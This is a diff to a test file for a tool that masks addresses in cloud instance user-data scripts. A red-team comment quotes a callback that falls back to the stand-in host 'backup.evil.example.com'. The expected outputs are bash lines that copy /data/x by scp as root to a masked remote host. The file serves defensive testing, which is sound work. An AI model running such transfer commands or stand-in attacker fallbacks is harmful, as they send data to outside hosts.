@@ -131,13 +131,16 @@ it("names the address through a callback that returns it and through gathered va
 // Red team 85 (a32): `ip.startsWith("10.") ? ip : "backup.evil.example.com"` in a callback on an
 // instance's address kept the stand-in's side, which the pack placed where the instance is: the
 // other side was never seen, and the stack passed as sealed.
-it("names no address in the marks of a callback that consulted the address", () => {
+it("names no address in the marks of a callback that consulted the address, or a value beside it", () => {
   expect(shown(inputs("sent-by-branch").userData)).toBe(
     "#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n",
   );
   expect(
     shown(Buffer.from(inputs("sent-by-branch-encoded").userData as string, "base64").toString()),
   ).toBe("#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n");
+  expect(shown(inputs("sent-by-other-branch").userData)).toBe(
+    "#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n",
+  );
   expect(shown(inputs("sent-from-branch").userData)).toBe(
     "#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n",
   );
